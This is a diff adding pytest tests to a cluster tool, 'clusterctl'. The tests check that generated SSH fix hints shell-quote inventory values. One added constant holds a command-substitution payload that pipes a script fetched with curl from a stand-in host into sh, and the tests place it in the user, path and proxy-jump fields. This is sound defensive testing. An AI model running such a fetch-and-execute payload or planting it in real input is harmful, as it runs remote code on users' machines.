@@ -438,3 +438,41 @@ def test_launch_warns_when_the_rendezvous_address_is_not_private(address, status
     assert c.status == status, c
     if status == "warn":
         assert address in c.detail and "not private" in c.detail and report.ok     # a warning, not a failure
+
+
+EVIL = "$(curl -s evil.example|sh)"
+
+
+@pytest.mark.parametrize("err", [HostKeyError("n1", "unknown host key SHA256:abc"),
+                                 AuthError("n1", "authentication failed"), ConnectError("n1", "refused"),
+                                 RuntimeError("odd")])
+@pytest.mark.parametrize("jump", [None, f"{EVIL}@bastion:2222"])
+def test_ssh_fix_hints_quote_every_inventory_value(err, jump):
+    """Issue 24 item 9: a hint's command, pasted into a shell, never runs what an inventory value holds."""
+    import re
+    import shlex
+
+    from clusterctl.checks.system import ssh_hint
+    from clusterctl.inventory import Host
+
+    host = Host(name="n1", address="10.0.0.1", port=2200, user=EVIL, known_hosts=f"/tmp/{EVIL}/kh",
+                proxy_jump=jump)
+    hint = ssh_hint(err, host)
+    commands = re.findall(r"`([^`]*)`", hint)
+    assert commands
+    for command in commands:
+        assert "$(" in command or command == "ssh-keygen -R"
+        assert not unquoted_substitution(command), command
+    if isinstance(err, HostKeyError):
+        assert shlex.split(commands[0])[-2:] == [">>", f"/tmp/{EVIL}/kh"]
+
+
+def unquoted_substitution(command: str) -> bool:
+    """Whether ``$(`` occurs outside single quotes (what shlex.quote uses) in ``command``."""
+    quoted = False
+    for i, c in enumerate(command):
+        if c == "'":
+            quoted = not quoted
+        elif c == "$" and command[i + 1:i + 2] == "(" and not quoted:
+            return True
+    return False
